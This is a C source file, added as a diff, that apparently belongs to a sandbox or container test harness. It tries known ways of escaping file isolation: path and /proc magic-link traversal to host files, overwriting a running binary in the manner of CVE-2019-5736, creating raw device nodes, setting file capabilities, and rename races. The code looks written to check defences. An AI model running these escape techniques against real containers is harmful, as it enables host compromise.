@@ -1,0 +1,234 @@
+// Attacks by way of files: paths and descriptors that lead out, programs that run while they are written to, devices,
+// set-user-ID programs, locks and watches.
+
+#include "attack.h"
+
+#include <dirent.h>
+#include <linux/capability.h>
+#include <linux/openat2.h>
+#include <sys/file.h>
+#include <sys/inotify.h>
+#include <sys/stat.h>
+#include <sys/sysmacros.h>
+#include <sys/xattr.h>
+
+/** The file has the token in it. */
+static int holds(int fd, const char *token) {
+  static char content[4096];
+  if (fd < 0) return 0;
+  ssize_t length = read(fd, content, sizeof content - 1);
+  close(fd);
+  if (length < 0) return 0;
+  content[length] = 0;
+  return strstr(content, token) != NULL;
+}
+
+static long reads(int directory, const char *path, const char *token) {
+  struct open_how how = {.flags = O_RDONLY | O_NONBLOCK | O_CLOEXEC};
+  int fd = openat(directory, path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
+  if (holds(fd, token)) return 0;
+  fd = syscall(SYS_openat2, directory, path, &how, sizeof how);
+  if (holds(fd, token)) return 0;
+  if (errno == 0) errno = ENOENT;
+  return -1;
+}
+
+#define UP "../../../../../../../../../../../../../../../../../../../.."
+
+/** Every way that is known for a path to lead out of a root, to a file of the host with a token in it. */
+static void paths(const char *target, const char *token) {
+  static const char *const prefixes[] = {
+      "",
+      "/" UP,
+      UP,
+      "/proc/self/root",
+      "/proc/self/root/" UP,
+      "/proc/self/cwd/" UP,
+      "/proc/thread-self/root/" UP,
+      "/proc/1/root",
+      "/proc/1/cwd",
+      "/proc/1/root/" UP,
+      "/proc/2/root",
+      "/proc/1/task/1/root",
+      "/proc/1/root/realroot",
+      "/realroot",
+      "/oldroot",
+      "/old_root",
+      "/put_old",
+      "/staging",
+      "/dev/fd/" UP,
+      "/dev/pts/" UP,
+      "/dev/shm/" UP,
+      "/tmp/" UP,
+      "/proc/sys/" UP,
+      "/proc/1/map_files/" UP,
+      "/proc/self/ns/mnt/" UP,
+  };
+  char path[4096], name[128];
+  for (size_t index = 0; index < sizeof prefixes / sizeof prefixes[0]; index++) {
+    snprintf(path, sizeof path, "%s%s", prefixes[index], target);
+    snprintf(name, sizeof name, "path-%s", prefixes[index]);
+    TRY(name, reads(AT_FDCWD, path, token));
+  }
+  // From whatever descriptor is open, as a directory and by its magic link.
+  for (int fd = 0; fd < 2048; fd++) {
+    if (fcntl(fd, F_GETFD) < 0) continue;
+    snprintf(path, sizeof path, UP "%s", target);
+    snprintf(name, sizeof name, "fd-%d-relative", fd);
+    TRY(name, reads(fd, path, token));
+    snprintf(name, sizeof name, "fd-%d-chdir", fd);
+    TRY(name, fchdir(fd) != 0 ? -1 : reads(AT_FDCWD, path, token));
+    snprintf(path, sizeof path, "/proc/self/fd/%d/" UP "%s", fd, target);
+    snprintf(name, sizeof name, "fd-%d-magic", fd);
+    TRY(name, reads(AT_FDCWD, path, token));
+  }
+  for (int process = 1; process < 4; process++) {
+    for (int fd = 0; fd < 64; fd++) {
+      snprintf(path, sizeof path, "/proc/%d/fd/%d/" UP "%s", process, fd, target);
+      if (reads(AT_FDCWD, path, token) == 0) dprintf(1, "process-%d-fd-%d done\n", process, fd);
+    }
+  }
+}
+
+/** What magic links give that names do not: everything that is mapped or open, of oneself and of init. */
+static void magic(void) {
+  static const char *const directories[] = {"/proc/1/fd", "/proc/1/map_files", "/proc/1/task/1/fd", "/proc/1/ns"};
+  char path[512];
+  for (size_t index = 0; index < sizeof directories / sizeof directories[0]; index++) {
+    DIR *directory = opendir(directories[index]);
+    tell(directories[index], directory == NULL ? -1 : 0);
+    if (directory == NULL) continue;
+    for (struct dirent *entry; (entry = readdir(directory)) != NULL;) {
+      if (entry->d_name[0] == '.') continue;
+      snprintf(path, sizeof path, "%s/%.200s", directories[index], entry->d_name);
+      if (can_open(path, O_RDONLY) == 0) dprintf(1, "%s done\n", path);
+    }
+    closedir(directory);
+  }
+}
+
+/** Writing to a program that runs: the one at `exe`, a process' magic link or a path. It would also get a new name. */
+static void overwrite(const char *exe, const char *new_name) {
+  char link[64];
+  struct open_how how = {.flags = O_PATH | O_CLOEXEC};
+  TRY("write", can_open(exe, O_WRONLY));
+  TRY("truncate", can_open(exe, O_WRONLY | O_TRUNC));
+  TRY("append", can_open(exe, O_WRONLY | O_APPEND));
+  TRY("chmod", chmod(exe, 0777));
+  int program = syscall(SYS_openat2, AT_FDCWD, exe, &how, sizeof how);
+  tell("path", program);
+  if (program < 0) return;
+  // The way of CVE-2019-5736: hold it, and open it for writing as soon as nobody runs it.
+  snprintf(link, sizeof link, "/proc/self/fd/%d", program);
+  TRY("reopen", can_open(link, O_WRONLY));
+  TRY("resize", truncate(link, 0));
+  TRY("link", linkat(AT_FDCWD, link, AT_FDCWD, new_name, AT_SYMLINK_FOLLOW));
+  TRY("link-fd", linkat(program, "", AT_FDCWD, new_name, AT_EMPTY_PATH));
+}
+
+static long make_device(const char *path, mode_t kind, unsigned major, unsigned minor) {
+  unlink(path);
+  if (mknod(path, kind | 0666, makedev(major, minor)) != 0) return -1;
+  long result = can_open(path, O_RDONLY);
+  int failed = errno;
+  unlink(path);
+  errno = failed;
+  return result;
+}
+
+/** Device nodes: made where one may write, and opened. `directory` is such a place. */
+static void devices(const char *directory) {
+  char path[512];
+  snprintf(path, sizeof path, "%s/attack-device", directory);
+  TRY("zero", make_device(path, S_IFCHR, 1, 5));
+  TRY("mem", make_device(path, S_IFCHR, 1, 1));
+  TRY("kmsg", make_device(path, S_IFCHR, 1, 11));
+  TRY("disk", make_device(path, S_IFBLK, 254, 0));
+  TRY("loop", make_device(path, S_IFBLK, 7, 0));
+}
+
+/** Who one is, and what one may: to be run from a file with the set-user-ID bit. */
+static void ids(void) {
+  static char status[8192];
+  int fd = open("/proc/self/status", O_RDONLY);
+  ssize_t length = fd < 0 ? 0 : read(fd, status, sizeof status - 1);
+  status[length < 0 ? 0 : length] = 0;
+  const char *effective = strstr(status, "CapEff:\t");
+  dprintf(1, "euid %u\negid %u\ncapabilities %.16s\n", geteuid(), getegid(), effective == NULL ? "" : effective + 8);
+}
+
+/** Gives a program file a capability (of changing owners), as setcap(8) does. */
+static long endow(const char *path) {
+  unsigned value[5] = {VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE, 1 << CAP_CHOWN, 0, 0, 0};
+  return setxattr(path, "security.capability", value, sizeof value, 0);
+}
+
+/** Swaps two names over and over, until it is killed. */
+static void flip(const char *one, const char *other) {
+  tell("flip", renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE));
+  for (int round = 0;; round++) {
+    renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
+    // Each name is there for a while, too, and others want the processor.
+    if (round % 4 == 0) usleep(30);
+  }
+}
+
+static long lease(const char *path, int kind) {
+  int fd = open(path, O_RDONLY | O_CLOEXEC);
+  return fd < 0 ? -1 : fcntl(fd, F_SETLEASE, kind);
+}
+
+static long lock(const char *path, int exclusive) {
+  int fd = open(path, O_RDONLY | O_CLOEXEC);
+  return fd < 0 ? -1 : flock(fd, (exclusive ? LOCK_EX : LOCK_SH) | LOCK_NB);
+}
+
+/** Holds a lock on a file that others see, until it is killed. */
+static void hold(const char *path) {
+  int fd = open(path, O_RDONLY);
+  tell("lock", flock(fd, LOCK_EX | LOCK_NB));
+  for (int second = 0; second < 60; second++) usleep(1000000);
+}
+
+/** Holds a lease on it. */
+static void hold_lease(const char *path) {
+  int fd = open(path, O_RDONLY);
+  // Breaking it raises SIGIO, which would end us.
+  signal(SIGIO, SIG_IGN);
+  tell("lease", fcntl(fd, F_SETLEASE, F_RDLCK));
+  for (int second = 0; second < 60; second++) usleep(1000000);
+}
+
+/** Tells what is done to a file by others, until it has been opened and read once. */
+static void watch(const char *path) {
+  int fd = inotify_init1(IN_CLOEXEC);
+  tell("watch", inotify_add_watch(fd, path, IN_OPEN | IN_MODIFY | IN_ATTRIB));
+  char event[4096];
+  alarm(20);
+  if (read(fd, event, sizeof event) > 0) dprintf(1, "event done\n");
+}
+
+int files(int argc, char **argv) {
+  const char *what = argv[0];
+  if (strcmp(what, "paths") == 0 && argc > 2) paths(argv[1], argv[2]);
+  else if (strcmp(what, "magic") == 0) magic();
+  else if (strcmp(what, "overwrite") == 0 && argc > 2) overwrite(argv[1], argv[2]);
+  else if (strcmp(what, "devices") == 0 && argc > 1) devices(argv[1]);
+  else if (strcmp(what, "open") == 0 && argc > 1) TRY("open", can_open(argv[1], O_RDONLY));
+  else if (strcmp(what, "ids") == 0) ids();
+  else if (strcmp(what, "locks") == 0 && argc > 1) {
+    TRY("flock-shared", lock(argv[1], 0));
+    TRY("flock", lock(argv[1], 1));
+    TRY("lease-read", lease(argv[1], F_RDLCK));
+    TRY("lease-write", lease(argv[1], F_WRLCK));
+  } else if (strcmp(what, "hold") == 0 && argc > 1) hold(argv[1]);
+  else if (strcmp(what, "endow") == 0 && argc > 1) tell("endow", endow(argv[1]));
+  else if (strcmp(what, "flip") == 0 && argc > 2) flip(argv[1], argv[2]);
+  else if (strcmp(what, "hold-lease") == 0 && argc > 1) hold_lease(argv[1]);
+  else if (strcmp(what, "watch") == 0 && argc > 1) watch(argv[1]);
+  else if (strcmp(what, "seals") == 0 && argc > 1) {
+    int fd = open(argv[1], O_RDONLY);
+    dprintf(1, "seals %d\n", fd < 0 ? -1 : fcntl(fd, F_GET_SEALS));
+  } else return 64;
+  return 0;
+}
